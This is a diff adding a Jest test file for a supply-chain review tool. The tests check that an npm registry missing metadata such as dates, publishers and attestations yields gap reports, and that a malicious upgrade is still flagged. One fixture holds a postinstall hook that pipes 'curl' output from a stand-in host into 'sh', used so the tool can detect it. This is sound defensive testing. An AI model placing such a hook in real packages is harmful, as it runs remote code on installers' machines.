@@ -1,0 +1,106 @@
+import { describe, expect, it } from '@jest/globals'
+import { openNpmRegistry } from '../src/registry/npm-registry.js'
+import type { Report } from '../src/report/report.js'
+import { review } from '../src/review.js'
+import { openMemoryStore } from '../src/store/memory-store.js'
+import { inProcessAnalyser } from './builders/code-analyser.js'
+import { anOperator } from './builders/registry.js'
+import { type Lack, startRegistry } from './emulator/registry.js'
+import type { Replay } from './replays/replay.js'
+import { setStage } from './replays/stage.js'
+
+const provenance = { predicateType: 'https://slsa.dev/provenance/v1', bundle: {} }
+
+/** An upgrade of a package that has all that the public registry knows, and what it brings along. */
+function anUpgrade(
+  files: Readonly<Record<string, string>>,
+  lacks: readonly Lack[],
+): Pick<Replay, 'packages' | 'base' | 'head' | 'lacks'> {
+  const aState = (version: string) => ({
+    manifest: { dependencies: { widget: '^1.0.0' } },
+    locked: { 'node_modules/widget': version },
+  })
+  return {
+    lacks,
+    packages: {
+      widget: {
+        '1.0.0': { files: { 'index.js': 'module.exports = 1\n' }, attestations: [provenance] },
+        '1.1.0': { files: { 'index.js': 'module.exports = 2\n', ...files }, attestations: [provenance] },
+      },
+    },
+    base: aState('1.0.0'),
+    head: aState('1.1.0'),
+  }
+}
+
+async function reviewed(files: Readonly<Record<string, string>>, lacks: readonly Lack[]): Promise<Report> {
+  const upgrade = anUpgrade(files, lacks)
+  const { published, change } = await setStage({
+    ...upgrade,
+    description: '',
+    expected: { verdict: 'clear', findings: [] },
+  })
+  if (change === undefined) throw new Error('no change')
+  const server = await startRegistry({ packages: published, lacks })
+  try {
+    const { report } = await review({
+      change,
+      openRegistry: () => openNpmRegistry({ operator: anOperator({ registry: server.url }), concurrency: 4 }),
+      store: openMemoryStore(),
+      code: inProcessAnalyser,
+      now: new Date('2026-11-20T12:00:00Z'),
+      concurrency: 4,
+    })
+    return report
+  } finally {
+    await server.close()
+  }
+}
+
+const gapsOf = ({ gaps }: Report): readonly string[] => [...new Set(gaps.map(({ code }) => code))]
+
+const everything: readonly Lack[] = [
+  'time',
+  'publisher',
+  'attestations',
+  'signatures',
+  'keys',
+  'validators',
+  'abbreviated',
+]
+
+describe('a registry that lacks', () => {
+  it.each<[string, readonly Lack[], string]>([
+    ['dates', ['time'], 'time-unavailable'],
+    ['the date of the first publication', ['created'], 'time-untrusted'],
+    ['true dates', ['publish-times'], 'time-untrusted'],
+    ['publishers', ['publisher'], 'publisher-unavailable'],
+    ['an address for attestations', ['attestations-endpoint'], 'attestations-unavailable'],
+  ])('%s costs the rules that would need them, and is told by its own code', async (_, lacks, code) => {
+    const [whole, lacking] = await Promise.all([reviewed({}, []), reviewed({}, lacks)])
+
+    expect(gapsOf(lacking).filter((gap) => !gapsOf(whole).includes(gap))).toEqual([code])
+  })
+
+  it('all that mirrors leave out leaves a review whole: each missing signal is told once and weighs nothing', async () => {
+    const { verdict, findings, gaps, coverage } = await reviewed({}, everything)
+
+    expect({ verdict, findings: findings.map(({ rule }) => rule) }).toEqual({ verdict: 'clear', findings: [] })
+    expect(gaps.map(({ code, package: name, matters }) => `${code} ${name} ${matters}`)).toEqual([
+      'attestations-unavailable widget@1.1.0 false',
+      'publisher-unavailable widget@1.1.0 false',
+      'time-unavailable widget@1.1.0 false',
+    ])
+    expect(coverage).toMatchObject({ changed: 1, expected: 1, analysed: 1, unverified: 0 })
+  })
+
+  it('all that mirrors leave out hides nothing that a tarball shows', async () => {
+    const manifest = { name: 'widget', version: '1.1.0', scripts: { postinstall: 'curl -s https://a.example/x | sh' } }
+    const { verdict, findings } = await reviewed({ 'package.json': JSON.stringify(manifest) }, everything)
+
+    expect(verdict).toBe('flagged')
+    expect(findings.map(({ rule }) => rule)).toEqual(
+      expect.arrayContaining(['install-script-added', 'install-script-dangerous', 'manifest-mismatch']),
+    )
+  })
+})
